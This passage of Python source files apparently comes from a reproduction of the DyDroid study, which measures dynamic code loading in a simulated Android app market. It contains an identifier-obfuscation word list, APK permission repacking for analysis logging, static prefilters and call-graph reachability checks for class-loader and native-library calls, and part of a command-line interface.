expire export extra face factory fail fallback family fast favorite feature feed
feedback fetch field file fill filter final find finish fire first fit fix flag
flash flat flight flip float floor flow focus folder font food foot force forecast
foreground form format forward found fragment frame free frequency fresh friend
front full function fuzz gallery game gap garbage gate gateway general generate
geometry gesture gift global goal gold good graph graphic gravity gray green grid
group guard guess guest guide handle handler hard hash head header health heart
heavy height hello help hidden hide high hint history hit hold holder home hook
horizontal host hot hour house icon image import inbox include index info init
inject inner input insert inside install instance int integer intent interface
internal interval invalid invite invoice item job join journal json jump keep
kernel key keyboard keyword kind label lab lang language large last latitude
launch launcher layer layout lazy leader leaf league left legacy length lens
letter level library license life light like limit line link list listener live
load loader local location lock log login logo long longitude look loop low
machine macro magic mail main manager manifest map margin mark market mask master
match material math matrix measure media medium member memory menu merge message
meta meter method metric middle migrate mile mini minute mirror mission mix mobile
mode model modify module moment money monitor month more motion mount mouse move
movie multi music mute name native nav navigation nearby neck need nest net
network news next night node noise normal north note notification notify null
number object observer offer offline offset old once online only opacity open
operation option orange order origin other outer output outside overlay owner
pack package packet pad page pager paint pair panel paper param parent parse part
partial partner party pass password paste patch path pattern pause pay payment
peak pen pending people percent perform permission person phase phone photo
picker picture piece pin ping pipe pixel place plan play player playlist plugin
point policy poll pool pop popup port portrait position post power prefer prefix
preload present preset press preview price primary print priority privacy private
process product profile program progress project promo prompt proof property
protocol provider proxy public publish pull purchase push puzzle quality quantity
query question queue quick quiet quiz quote radio random range rank rate rating
ratio reach read reader ready real reason receipt receive receiver recent record
recover rect recycle red redirect reduce refresh region register relation release
reload remote remove render repeat replace reply report request require reset
resize resolve resource response rest restore result resume retry return review
reward right ring road role roll room root rotate round route router row rule
safe sale sample save scale scan scene schedule schema scheme score screen script
scroll search season second secret section secure security seek segment select
self sell send sender sensor sequence serial series server service session share
sheet shell shift ship shop short show shuffle side sign signal signature silver
simple single site size skill skin sky sleep slice slide slider slot slow small
smart snap social socket soft solid solution song sort sound source south space
span speak special speed spell spin split sport spot stack staff stage stamp star
start state static station status step stick stock stop storage store story
stream street string strip strong style submit subscribe success suffix suggest
summary sun support surface survey swap sweep swipe switch symbol sync system tab
table tag take talk tap target task team tech template temp term test text theme
thread threshold thumb ticket tile time timer timestamp title toast toggle token
tool top total touch tour trace track trade traffic train transaction transfer
transform transit translate transparent trash travel tree trend trial trigger
trim trip true trust turn tutorial type under undo unit unlock unread update
upgrade upload upper usage user util valid value variant vector vendor verify
version vertical vibrate video view viewer visible visit voice volume wait walk
wallet wallpaper warm warning watch water wave weak weather web week weight
welcome west wheel white wide widget width wifi win window wipe wish word work
worker world wrap write writer yellow zero zone zoom
""".split()

DICTIONARY = frozenset(_WORDS) | SHORT_TOKENS

#: public view of the word list (the corpus generator mints readable
#: identifiers from the same vocabulary).
WORDS = tuple(sorted(set(_WORDS)))

_TOKEN_SPLIT = re.compile(
    r"[A-Z]+(?![a-z])|[A-Z][a-z]+|[a-z]+|[0-9]+"
)


def split_identifier(identifier: str) -> Tuple[str, ...]:
    """camelCase / snake_case / ALLCAPS -> lowercase tokens."""
    return tuple(token.lower() for token in _TOKEN_SPLIT.findall(identifier))


def identifier_is_meaningful(identifier: str) -> bool:
    """Whether an identifier reads as real words."""
    tokens = [token for token in split_identifier(identifier) if not token.isdigit()]
    if not tokens:
        return False
    recognized = 0
    for token in tokens:
        if token in DICTIONARY or (len(token) <= 2 and token in SHORT_TOKENS):
            recognized += 1
    return recognized / len(tokens) >= MEANINGFUL_TOKEN_SHARE


def lexical_obfuscation_ratio(identifiers: Iterable[str]) -> float:
    """Share of identifiers that are meaningful (1.0 = fully readable)."""
    names = [name for name in identifiers if name]
    if not names:
        return 1.0
    meaningful = sum(1 for name in names if identifier_is_meaningful(name))
    return meaningful / len(names)


def is_lexically_obfuscated(identifiers: Iterable[str]) -> bool:
    """The app-level verdict used in Table VI."""
    return lexical_obfuscation_ratio(identifiers) < MEANINGFUL_APP_THRESHOLD
