"""Application rewriting: add ``WRITE_EXTERNAL_STORAGE`` and repack.

DyDroid stores its dynamic-analysis log and the dumped loaded code on the
device's external storage; when the analyzed app does not itself declare
``WRITE_EXTERNAL_STORAGE``, the paper rewrites and repacks it with the
permission added to the manifest.

Apps that deploy anti-repackaging tricks crash the repack step -- those are
the "Rewriting failure" rows of Table II (454 DEX / 133 native apps).
"""

from __future__ import annotations

from typing import Tuple

from repro.android.apk import ANTI_REPACKAGING_ENTRY, Apk
from repro.android.manifest import WRITE_EXTERNAL_STORAGE


class RepackagingError(RuntimeError):
    """The rewrite/repack step failed (anti-repackaging sample)."""


def ensure_external_write(apk: Apk) -> Tuple[Apk, bool]:
    """Return an APK that declares ``WRITE_EXTERNAL_STORAGE``.

    Returns ``(apk, rewritten)``; the original object is returned untouched
    when the permission is already present.  Raises
    :class:`RepackagingError` when the app defends against repackaging: the
    rewritten archive can no longer match the embedded integrity record, so
    the repacked app would refuse to run -- the toolchain treats this as a
    rewrite failure up front, as apktool does when it crashes.
    """
    manifest = apk.manifest
    if manifest.has_permission(WRITE_EXTERNAL_STORAGE):
        return apk, False
    if apk.is_anti_repackaging:
        raise RepackagingError(
            "integrity-protected package {} cannot be repacked".format(
                manifest.package
            )
        )
    rewritten = apk.clone()
    manifest.add_permission(WRITE_EXTERNAL_STORAGE)
    rewritten.put_manifest(manifest)
    # A real repack re-signs; our integrity entry (when present) would now
    # mismatch, which is why the guard above fires first.
    rewritten.entries.pop(ANTI_REPACKAGING_ENTRY, None)
    return rewritten, True
