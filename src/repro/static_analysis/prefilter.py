"""The DCL prefilter (Section III-A).

Before paying for dynamic analysis, DyDroid checks the decompiled IR for the
*existence* (not reachability) of DCL-related code: class-loader creation
for bytecode DCL, JNI ``load``/``loadLibrary``/``load0`` for native DCL.
Apps without either never enter the App Execution Engine.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Set

from repro.android.bytecode import MethodRef
from repro.static_analysis.smali import SmaliProgram

#: Constructing either loader is the bytecode-DCL signature.
DEX_LOADER_CLASSES = (
    "dalvik.system.DexClassLoader",
    "dalvik.system.PathClassLoader",
)

#: The JNI native-loading surface (load0 is the ART-era addition).
NATIVE_LOAD_METHODS = (
    ("java.lang.System", "loadLibrary"),
    ("java.lang.System", "load"),
    ("java.lang.Runtime", "loadLibrary"),
    ("java.lang.Runtime", "load"),
    ("java.lang.Runtime", "load0"),
)


@dataclass
class PrefilterResult:
    """Which DCL mechanisms an app's code *mentions*, and where."""

    has_dex_dcl: bool = False
    has_native_dcl: bool = False
    #: classes containing DCL call sites, for debugging/entity sanity checks.
    dex_call_site_classes: List[str] = field(default_factory=list)
    native_call_site_classes: List[str] = field(default_factory=list)

    @property
    def has_any_dcl(self) -> bool:
        return self.has_dex_dcl or self.has_native_dcl


def prefilter(program: SmaliProgram) -> PrefilterResult:
    """Scan the IR for DCL-related API references."""
    result = PrefilterResult()
    dex_sites: Set[str] = set()
    native_sites: Set[str] = set()
    native_keys = set(NATIVE_LOAD_METHODS)

    for method in program.methods():
        for ref in method.invoked_refs():
            if _is_loader_ctor(ref):
                result.has_dex_dcl = True
                dex_sites.add(method.class_name)
            elif (ref.class_name, ref.name) in native_keys:
                result.has_native_dcl = True
                native_sites.add(method.class_name)

    result.dex_call_site_classes = sorted(dex_sites)
    result.native_call_site_classes = sorted(native_sites)
    return result


def _is_loader_ctor(ref: MethodRef) -> bool:
    return ref.name == "<init>" and ref.class_name in DEX_LOADER_CLASSES
