"""Static call graphs over decompiled apps, and a reachability prefilter.

The paper's prefilter checks only the *existence* of DCL-related code ("We
do not verify the reachability of DCL-related code"), accepting wasted
dynamic runs on dead code in exchange for never missing a reachable site.
This module makes that design choice measurable:

- :func:`build_call_graph` -- an over-approximate call graph: an edge for
  every invoke whose target resolves inside the app (direct match plus a
  CHA-style walk over subclasses);
- :func:`entry_points` -- manifest components' lifecycle methods, UI
  handlers (public ``on*``), and the application container;
- :func:`reachable_methods` -- BFS closure from the entry points;
- :func:`prefilter_reachable` -- the existence prefilter restricted to
  reachable methods.

The known blind spot is reflection: ``Method.invoke`` edges are invisible
statically, which is exactly why the paper kept the existence check.  The
ablation bench quantifies both sides (dynamic runs saved vs sites missed).
"""

from __future__ import annotations

from collections import deque
from typing import Dict, List, Set, Tuple

import networkx as nx

from repro.android.manifest import ComponentKind
from repro.static_analysis.prefilter import (
    DEX_LOADER_CLASSES,
    NATIVE_LOAD_METHODS,
    PrefilterResult,
)
from repro.static_analysis.smali import SmaliProgram

MethodKey = Tuple[str, str]  # (class name, method name)

#: lifecycle callbacks the system invokes on components.
COMPONENT_LIFECYCLE = {
    ComponentKind.ACTIVITY: ("onCreate", "onStart", "onResume", "onPause", "onStop", "onDestroy"),
    ComponentKind.SERVICE: ("onCreate", "onStartCommand", "onStart", "onDestroy"),
    ComponentKind.RECEIVER: ("onReceive",),
    ComponentKind.PROVIDER: ("onCreate", "query", "insert", "update", "delete"),
}


def _subclass_index(program: SmaliProgram) -> Dict[str, List[str]]:
    """superclass -> direct app subclasses."""
    index: Dict[str, List[str]] = {}
    for cls in program.classes():
        index.setdefault(cls.superclass, []).append(cls.name)
    return index


def build_call_graph(program: SmaliProgram) -> nx.DiGraph:
    """Nodes are (class, method) keys; edges over-approximate dispatch."""
    graph = nx.DiGraph()
    defined: Set[MethodKey] = set()
    for method in program.methods():
        key = (method.class_name, method.name)
        defined.add(key)
        graph.add_node(key)

    subclasses = _subclass_index(program)

    def dispatch_targets(class_name: str, method_name: str) -> List[MethodKey]:
        """CHA-lite: the static target plus any subclass override."""
        targets = []
        worklist = deque([class_name])
        seen: Set[str] = set()
        while worklist:
            current = worklist.popleft()
            if current in seen:
                continue
            seen.add(current)
            if (current, method_name) in defined:
                targets.append((current, method_name))
            worklist.extend(subclasses.get(current, ()))
        # walk up the app-level superclass chain for inherited methods.
        cls = program.class_named(class_name)
        while cls is not None and not targets:
            if (cls.superclass, method_name) in defined:
                targets.append((cls.superclass, method_name))
            cls = program.class_named(cls.superclass)
        return targets

    for method in program.methods():
        source = (method.class_name, method.name)
        for ref in method.invoked_refs():
            for target in dispatch_targets(ref.class_name, ref.name):
                graph.add_edge(source, target)
    return graph


def entry_points(program: SmaliProgram) -> Set[MethodKey]:
    """Methods the system or the user can invoke directly."""
    entries: Set[MethodKey] = set()
    manifest = program.manifest
    for component in manifest.components:
        for callback in COMPONENT_LIFECYCLE.get(component.kind, ()):
            if program.class_named(component.name) is not None:
                entries.add((component.name, callback))
        # UI handlers on activities: public on* methods.
        cls = program.class_named(component.name)
        if cls is not None and component.kind is ComponentKind.ACTIVITY:
            for method in cls.methods:
                if method.is_public and method.name.startswith("on"):
                    entries.add((cls.name, method.name))
    if manifest.application_name:
        for callback in ("onCreate", "attachBaseContext", "<init>"):
            entries.add((manifest.application_name, callback))
    # keep only entries that actually exist in the bytecode.
    defined = {(m.class_name, m.name) for m in program.methods()}
    return entries & defined


def reachable_methods(program: SmaliProgram) -> Set[MethodKey]:
    """BFS closure of the call graph from the entry points."""
    graph = build_call_graph(program)
    reachable: Set[MethodKey] = set()
    worklist = deque(entry_points(program))
    while worklist:
        key = worklist.popleft()
        if key in reachable:
            continue
        reachable.add(key)
        if key in graph:
            worklist.extend(graph.successors(key))
    return reachable


def prefilter_reachable(program: SmaliProgram) -> PrefilterResult:
    """The existence prefilter restricted to statically reachable methods."""
    result = PrefilterResult()
    reachable = reachable_methods(program)
    native_keys = set(NATIVE_LOAD_METHODS)
    dex_sites: Set[str] = set()
    native_sites: Set[str] = set()
    for method in program.methods():
        if (method.class_name, method.name) not in reachable:
            continue
        for ref in method.invoked_refs():
            if ref.name == "<init>" and ref.class_name in DEX_LOADER_CLASSES:
                result.has_dex_dcl = True
                dex_sites.add(method.class_name)
            elif (ref.class_name, ref.name) in native_keys:
                result.has_native_dcl = True
                native_sites.add(method.class_name)
    result.dex_call_site_classes = sorted(dex_sites)
    result.native_call_site_classes = sorted(native_sites)
    return result
