"""Command-line interface: ``python -m repro <command>`` (or ``dydroid``).

Commands:

- ``measure``  -- generate a market, run the full pipeline, print tables;
- ``farm run`` -- the same measurement through the sharded, fault-tolerant
  analysis farm (checkpoint/resume, worker pool, metrics);
- ``serve``    -- run the analysis daemon (job queue, admission control,
  content-addressed result cache; drains cleanly on SIGTERM);
- ``submit``   -- send one job to a running daemon, optionally wait for it;
- ``status``   -- daemon stats, or one job's lifecycle record;
- ``evolve``   -- longitudinal measurement: ``run`` analyzes every version
  of a seeded lineage fleet (shared verdict store dedups unchanged
  payloads), ``diff`` prints behavior drift between adjacent snapshots,
  ``report`` prints fleet evolution timelines;
- ``defend``   -- active defense: ``eval`` scores the enforced DCL firewall
  on a seeded corpus (blocked-hazard rate vs. benign breakage), ``replay``
  re-detonates quarantined payloads in a sandbox VM, ``debloat`` shelves
  statically unreachable DCL call sites, ``policies`` lists the named
  enforcement policies;
- ``triage``   -- tier-0 behavioral prefilter: ``train`` fits the stdlib
  classifier on the train half of a seeded corpus split, ``eval`` scores
  it against the full pipeline on the held-out half, ``inspect`` prints a
  model file's provenance and heaviest weights;
- ``top``      -- live dashboard over a running daemon (``/v1/stats`` +
  ``/metrics?format=prom``) or a farm's ``status.json``; ``--once`` emits
  one machine-readable JSON snapshot;
- ``metrics``  -- ``export`` converts a ``--metrics-out`` JSON registry to
  Prometheus text exposition;
- ``corpus``   -- generate blueprints only and print ground-truth statistics;
- ``ecosystems`` -- list/describe the modern-DCL scenario pack (plugin
  hosts, split APKs, staged downloaders, self-debloating apps) that
  ``--ecosystems`` plants into generated corpora;
- ``analyze``  -- deep-dive one generated app (static + dynamic + verdicts);
- ``families`` -- list the malware family corpus DroidNative trains on;
- ``trace``    -- inspect a trace file written with ``--trace-out``.
"""

from __future__ import annotations

import argparse
import sys
import time
from collections import Counter
from typing import List, Optional

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import CorpusGenerator, generate_corpus
from repro.triage.harness import DEFAULT_AUX_CORPORA, DEFAULT_SPLIT_RATIO
from repro.triage.model import DEFAULT_EPOCHS, DEFAULT_L2, DEFAULT_LEARNING_RATE
from repro.triage.tier import DEFAULT_THRESHOLD

TABLE_RENDERERS = {
    "2": "render_dynamic_summary",
    "3": "render_popularity",
    "4": "render_entity_table",
    "5": "render_remote_fetch",
    "6": "render_obfuscation_table",
    "fig3": "render_fig3",
    "7": "render_malware_table",
    "8": "render_runtime_config_table",
    "9": "render_vulnerability_table",
    "10": "render_privacy_table",
    "11": "render_ecosystems_table",
}


def _corpus_profile(args: argparse.Namespace):
    """The corpus profile a command's knobs select (None = paper profile)."""
    if not getattr(args, "ecosystems", False):
        return None
    from repro.ecosystems import ecosystems_profile

    return ecosystems_profile(staged_depth=getattr(args, "staged_depth", 3))


def _add_ecosystem_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--ecosystems", action="store_true",
        help="plant the modern-DCL scenario pack (plugin hosts, split APKs, "
             "staged downloaders, self-debloating apps) at its calibrated "
             "rates; see `ecosystems list`",
    )
    parser.add_argument(
        "--staged-depth", type=int, default=3, metavar="N",
        help="hops in each staged-downloader delivery chain (default: 3)",
    )


def _add_observe_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--trace-out", metavar="FILE",
        help="write the stage-level span trace here",
    )
    parser.add_argument(
        "--trace-format", default="jsonl", choices=["jsonl", "chrome"],
        help="trace format: jsonl (grep-able) or chrome "
             "(chrome://tracing / Perfetto loadable)",
    )


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="dydroid",
        description="DyDroid reproduction: measure dynamic code loading in a simulated app market.",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    measure = sub.add_parser("measure", help="run the full pipeline and print tables")
    measure.add_argument("--apps", type=int, default=600, help="corpus size (paper: 58,739)")
    measure.add_argument("--seed", type=int, default=7)
    measure.add_argument(
        "--table",
        default="all",
        choices=["all"] + sorted(TABLE_RENDERERS),
        help="which table to print",
    )
    measure.add_argument("--train", type=int, default=3, help="DroidNative samples per family")
    measure.add_argument("--no-replays", action="store_true", help="skip Table VIII replays")
    measure.add_argument("--json", action="store_true", help="emit machine-readable JSON")
    measure.add_argument(
        "--corpus-dir",
        help="measure a corpus previously saved with `corpus --export` instead of generating one",
    )
    _add_observe_flags(measure)
    measure.add_argument(
        "--metrics-out", metavar="FILE",
        help="write the JSON metrics registry (stage histograms, cache counters) here",
    )
    measure.add_argument(
        "--verdict-store", metavar="FILE",
        help="shared verdict store: payload verdicts are reused from (and "
             "published to) this file across runs, farms, and services",
    )
    measure.add_argument(
        "--triage-model", metavar="FILE", default="",
        help="enable the tier-0 triage gate with this trained model "
             "(see `triage train`)",
    )
    measure.add_argument(
        "--triage-threshold", type=float, default=0.0,
        help="confidence bar for tier-0 short-circuits "
             "(default: {})".format(DEFAULT_THRESHOLD),
    )
    _add_ecosystem_flags(measure)

    farm = sub.add_parser("farm", help="sharded, fault-tolerant analysis farm")
    farm_sub = farm.add_subparsers(dest="farm_command", required=True)
    farm_run = farm_sub.add_parser(
        "run", help="measure a seeded corpus across a worker pool"
    )
    farm_run.add_argument("--apps", type=int, default=600, help="corpus size")
    farm_run.add_argument("--seed", type=int, default=7)
    farm_run.add_argument("--workers", type=int, default=2,
                          help="worker processes; 1 runs in-process")
    farm_run.add_argument("--shards", type=int, default=None,
                          help="shard count (default: 4x workers)")
    farm_run.add_argument("--shard-strategy", default="contiguous",
                          choices=["contiguous", "round-robin"])
    farm_run.add_argument("--timeout", type=float, default=None,
                          help="per-app analysis deadline in seconds")
    farm_run.add_argument("--max-retries", type=int, default=2,
                          help="per-app retries before quarantine")
    farm_run.add_argument("--checkpoint", metavar="FILE",
                          help="append-only JSONL journal of settled apps")
    farm_run.add_argument("--resume", action="store_true",
                          help="skip apps already settled in --checkpoint")
    farm_run.add_argument("--verdict-store", metavar="FILE",
                          help="shared verdict store: each distinct payload "
                               "digest is analyzed once fleet-wide")
    farm_run.add_argument("--triage-model", metavar="FILE", default="",
                          help="enable the tier-0 triage gate with this "
                               "trained model (see `triage train`)")
    farm_run.add_argument("--triage-threshold", type=float, default=0.0,
                          help="confidence bar for tier-0 short-circuits "
                               "(default: {})".format(DEFAULT_THRESHOLD))
    farm_run.add_argument("--metrics-out", metavar="FILE",
                          help="write the JSON metrics summary here")
    farm_run.add_argument("--train", type=int, default=3,
                          help="DroidNative samples per family")
    farm_run.add_argument("--no-replays", action="store_true",
                          help="skip Table VIII replays")
    farm_run.add_argument(
        "--table",
        default="all",
        choices=["all"] + sorted(TABLE_RENDERERS),
        help="which table to print",
    )
    farm_run.add_argument("--json", action="store_true",
                          help="emit the full serialized report as JSON")
    farm_run.add_argument("--telemetry-dir", metavar="DIR",
                          help="live telemetry directory: per-shard flight "
                               "recordings, heartbeats, and status.json "
                               "(default: the --checkpoint directory)")
    _add_observe_flags(farm_run)

    farm_serve = farm_sub.add_parser(
        "serve",
        help="coordinate the same run over HTTP: `farm join` nodes lease "
             "shards, renew from heartbeats, and ship results back",
    )
    farm_serve.add_argument("--host", default="127.0.0.1")
    farm_serve.add_argument("--port", type=int, default=8788,
                            help="listen port (0 picks an ephemeral port)")
    farm_serve.add_argument("--lease", type=float, default=15.0,
                            help="shard lease seconds; a worker that stops "
                                 "renewing for this long loses its shard")
    farm_serve.add_argument("--apps", type=int, default=600, help="corpus size")
    farm_serve.add_argument("--seed", type=int, default=7)
    farm_serve.add_argument("--shards", type=int, default=None,
                            help="shard count (default: 8)")
    farm_serve.add_argument("--shard-strategy", default="contiguous",
                            choices=["contiguous", "round-robin"])
    farm_serve.add_argument("--timeout", type=float, default=None,
                            help="per-app analysis deadline in seconds")
    farm_serve.add_argument("--max-retries", type=int, default=2,
                            help="per-app retries before quarantine")
    farm_serve.add_argument("--checkpoint", metavar="FILE",
                            help="append-only JSONL journal of settled apps "
                                 "(coordinator-owned; workers never touch it)")
    farm_serve.add_argument("--resume", action="store_true",
                            help="skip apps already settled in --checkpoint")
    farm_serve.add_argument("--verdict-store", metavar="FILE",
                            help="shared verdict store: each distinct payload "
                                 "digest is analyzed once fleet-wide")
    farm_serve.add_argument("--triage-model", metavar="FILE", default="",
                            help="enable the tier-0 triage gate with this "
                                 "trained model (see `triage train`)")
    farm_serve.add_argument("--triage-threshold", type=float, default=0.0,
                            help="confidence bar for tier-0 short-circuits "
                                 "(default: {})".format(DEFAULT_THRESHOLD))
    farm_serve.add_argument("--metrics-out", metavar="FILE",
                            help="write the JSON metrics summary here")
    farm_serve.add_argument("--train", type=int, default=3,
                            help="DroidNative samples per family")
    farm_serve.add_argument("--no-replays", action="store_true",
                            help="skip Table VIII replays")
    farm_serve.add_argument(
        "--table",
        default="all",
        choices=["all"] + sorted(TABLE_RENDERERS),
        help="which table to print",
    )
    farm_serve.add_argument("--json", action="store_true",
                            help="emit the full serialized report as JSON")
    _add_observe_flags(farm_serve)

    farm_join = farm_sub.add_parser(
        "join",
        help="lease and analyze shards from a `farm serve` coordinator "
             "until its run drains",
    )
    farm_join.add_argument("--host", default="127.0.0.1")
    farm_join.add_argument("--port", type=int, default=8788)
    farm_join.add_argument("--workers", type=int, default=1,
                           help="local worker processes (= concurrent leases); "
                                "1 runs in-process")
    farm_join.add_argument("--name", default=None,
                           help="worker id shown in the coordinator's status "
                                "(default: hostname:pid)")
    farm_join.add_argument("--telemetry-dir", metavar="DIR",
                           help="node-local flight recordings and heartbeats; "
                                "renewals report per-app progress from here")
    farm_join.add_argument("--poll", type=float, default=0.5,
                           help="seconds between lease attempts while the "
                                "queue is empty")
    farm_join.add_argument("--json", action="store_true",
                           help="emit the join summary as JSON")

    evolve = sub.add_parser("evolve", help="longitudinal (multi-version) measurement")
    evolve_sub = evolve.add_subparsers(dest="evolve_command", required=True)
    evolve_run = evolve_sub.add_parser(
        "run", help="analyze every version of a seeded lineage fleet"
    )
    evolve_run.add_argument("--apps", type=int, default=120, help="lineages (packages)")
    evolve_run.add_argument("--versions", type=int, default=3,
                            help="versions per lineage")
    evolve_run.add_argument("--seed", type=int, default=7)
    evolve_run.add_argument("--workers", type=int, default=2,
                            help="worker processes; 1 runs in-process")
    evolve_run.add_argument("--shards", type=int, default=None,
                            help="shards per version (default: 4x workers)")
    evolve_run.add_argument("--hazard", type=float, default=0.05,
                            help="per-version probability a benign app turns malicious")
    evolve_run.add_argument("--warehouse", metavar="FILE",
                            help="append-only snapshot warehouse; evolve "
                                 "diff/report read from it")
    evolve_run.add_argument("--verdict-store", metavar="FILE",
                            help="shared verdict store: each distinct payload "
                                 "digest is analyzed once across all versions")
    evolve_run.add_argument("--metrics-out", metavar="FILE",
                            help="write the JSON metrics summary here")
    evolve_run.add_argument("--train", type=int, default=3,
                            help="DroidNative samples per family")
    evolve_run.add_argument("--no-replays", action="store_true",
                            help="skip Table VIII replays")
    evolve_run.add_argument("--json", action="store_true",
                            help="emit diffs + timeline as JSON")
    _add_observe_flags(evolve_run)
    evolve_diff = evolve_sub.add_parser(
        "diff", help="print behavior drift between adjacent warehouse snapshots"
    )
    evolve_diff.add_argument("--warehouse", metavar="FILE", required=True)
    evolve_diff.add_argument("--package", default=None,
                             help="restrict to one package")
    evolve_diff.add_argument("--json", action="store_true",
                             help="emit structured diffs as JSON")
    evolve_report = evolve_sub.add_parser(
        "report", help="print fleet evolution timelines from a warehouse"
    )
    evolve_report.add_argument("--warehouse", metavar="FILE", required=True)
    evolve_report.add_argument("--json", action="store_true",
                               help="emit the timeline as JSON")

    defend = sub.add_parser("defend", help="active defense: firewall, quarantine, debloat")
    defend_sub = defend.add_subparsers(dest="defend_command", required=True)
    defend_eval = defend_sub.add_parser(
        "eval", help="score enforcement on a seeded corpus (baseline vs. defended)"
    )
    defend_eval.add_argument("--apps", type=int, default=120, help="corpus size")
    defend_eval.add_argument("--seed", type=int, default=7)
    defend_eval.add_argument("--policy", default="default",
                             help="enforcement policy (see `defend policies`)")
    defend_eval.add_argument("--verdict-store", metavar="FILE",
                             help="shared verdict store; the baseline phase warms "
                                  "it and the known-malware rule reads it")
    defend_eval.add_argument("--quarantine-dir", metavar="DIR",
                             help="preserve quarantined payload bytes here")
    defend_eval.add_argument("--workers", type=int, default=1,
                             help="worker processes; >1 runs both phases on the farm")
    defend_eval.add_argument("--train", type=int, default=3,
                             help="DroidNative samples per family")
    defend_eval.add_argument("--json", action="store_true",
                             help="emit the full scorecard as JSON")
    _add_ecosystem_flags(defend_eval)
    defend_replay = defend_sub.add_parser(
        "replay", help="re-detonate quarantined payloads in a sandbox VM"
    )
    defend_replay.add_argument("--quarantine-dir", metavar="DIR", required=True)
    defend_replay.add_argument("--digest", default=None,
                               help="replay only this payload (default: all)")
    defend_replay.add_argument("--json", action="store_true")
    defend_debloat = defend_sub.add_parser(
        "debloat", help="shelve statically unreachable DCL call sites"
    )
    defend_debloat.add_argument("--apps", type=int, default=120, help="corpus size")
    defend_debloat.add_argument("--seed", type=int, default=7)
    defend_debloat.add_argument("--index", type=int, default=None,
                                help="debloat only this corpus index")
    defend_debloat.add_argument("--json", action="store_true")
    defend_sub.add_parser("policies", help="list the named enforcement policies")

    triage = sub.add_parser(
        "triage", help="tier-0 behavioral prefilter: train, evaluate, inspect"
    )
    triage_sub = triage.add_subparsers(dest="triage_command", required=True)
    triage_train = triage_sub.add_parser(
        "train", help="train a model on the train half of a seeded corpus split"
    )
    triage_train.add_argument("--apps", type=int, default=120, help="corpus size")
    triage_train.add_argument("--seed", type=int, default=7)
    triage_train.add_argument("--out", metavar="FILE", required=True,
                              help="write the versioned JSON model here")
    triage_train.add_argument("--ratio", type=float, default=DEFAULT_SPLIT_RATIO,
                              help="train fraction of the seeded split")
    triage_train.add_argument("--split-seed", type=int, default=0,
                              help="split shuffle seed (shared with `triage eval`)")
    triage_train.add_argument("--aux-corpora", type=int, default=DEFAULT_AUX_CORPORA,
                              help="extra whole training corpora from derived "
                                   "seeds (rare hazard roles are planted ~once "
                                   "per corpus)")
    triage_train.add_argument("--epochs", type=int, default=DEFAULT_EPOCHS)
    triage_train.add_argument("--learning-rate", type=float,
                              default=DEFAULT_LEARNING_RATE)
    triage_train.add_argument("--l2", type=float, default=DEFAULT_L2)
    triage_train.add_argument("--train-seed", type=int, default=0,
                              help="SGD shuffle seed")
    triage_train.add_argument("--harvest", metavar="FILE", default="",
                              help="fold in hard examples a gated run harvested "
                                   "to <model>.harvest.jsonl")
    triage_train.add_argument("--json", action="store_true",
                              help="emit the training summary as JSON")
    triage_eval = triage_sub.add_parser(
        "eval", help="score a model on the held-out half (full pipeline = truth)"
    )
    triage_eval.add_argument("--model", metavar="FILE", required=True)
    triage_eval.add_argument("--apps", type=int, default=120, help="corpus size")
    triage_eval.add_argument("--seed", type=int, default=7)
    triage_eval.add_argument("--threshold", type=float, default=DEFAULT_THRESHOLD,
                             help="confidence bar for would-be short-circuits")
    triage_eval.add_argument("--ratio", type=float, default=DEFAULT_SPLIT_RATIO,
                             help="train fraction used when the model was trained")
    triage_eval.add_argument("--split-seed", type=int, default=0)
    triage_eval.add_argument("--train", type=int, default=3,
                             help="DroidNative samples per family "
                                  "(ground-truth pipeline)")
    triage_eval.add_argument("--json", action="store_true",
                             help="emit the scorecard as JSON")
    triage_inspect = triage_sub.add_parser(
        "inspect", help="print a model file's provenance and heaviest weights"
    )
    triage_inspect.add_argument("--model", metavar="FILE", required=True)
    triage_inspect.add_argument("--json", action="store_true",
                                help="emit the full model document as JSON")

    serve = sub.add_parser("serve", help="run the analysis-as-a-service daemon")
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument("--port", type=int, default=8787,
                       help="listen port (0 picks an ephemeral port)")
    serve.add_argument("--workers", type=int, default=2,
                       help="background scheduler threads")
    serve.add_argument("--queue-depth", type=int, default=64,
                       help="max queued jobs before 429 + Retry-After")
    serve.add_argument("--rate", type=float, default=0.0,
                       help="per-client submissions/s (0 disables rate limiting)")
    serve.add_argument("--burst", type=int, default=10,
                       help="per-client token-bucket burst")
    serve.add_argument("--persist", metavar="FILE",
                       help="JSONL result journal; reloaded on restart")
    serve.add_argument("--verdict-store", metavar="FILE",
                       help="shared verdict store for payload verdicts, "
                            "reusable across daemon restarts and farm runs")
    serve.add_argument("--cache-capacity", type=int, default=65536,
                       help="distinct APK digests held in the result cache")
    serve.add_argument("--train", type=int, default=3,
                       help="DroidNative samples per family")
    serve.add_argument("--no-replays", action="store_true",
                       help="skip Table VIII replays")
    serve.add_argument("--policy", default="",
                       help="default firewall policy for jobs that do not "
                            "name one (see `defend policies`)")
    serve.add_argument("--quarantine-dir", metavar="DIR", default="",
                       help="preserve payloads the firewall quarantines here")
    serve.add_argument("--triage-model", metavar="FILE", default="",
                       help="enable the tier-0 triage gate for all jobs "
                            "(tenants opt out with triage: \"off\")")
    serve.add_argument("--triage-threshold", type=float, default=0.0,
                       help="daemon-default confidence bar for tier-0 "
                            "short-circuits (default: {})".format(DEFAULT_THRESHOLD))
    serve.add_argument("--slo", metavar="SPEC", default="",
                       help="per-tenant SLO objectives, e.g. "
                            "'p95=30s,error_rate=1%%' (reported in "
                            "/v1/stats and as slo.* gauges)")
    serve.add_argument("--slo-window", type=int, default=256,
                       help="jobs per client considered by the rolling "
                            "error budgets")
    serve.add_argument("--event-log", metavar="FILE",
                       help="append structured JSONL events (job lifecycle, "
                            "firewall enforcement, store publishes) here")
    _add_observe_flags(serve)
    serve.add_argument("--metrics-out", metavar="FILE",
                       help="write the final metrics registry here on drain")

    submit = sub.add_parser("submit", help="submit one job to a running daemon")
    submit.add_argument("--host", default="127.0.0.1")
    submit.add_argument("--port", type=int, default=8787)
    submit.add_argument("--seed", type=int, default=7, help="corpus seed")
    submit.add_argument("--apps", type=int, default=600, help="corpus size")
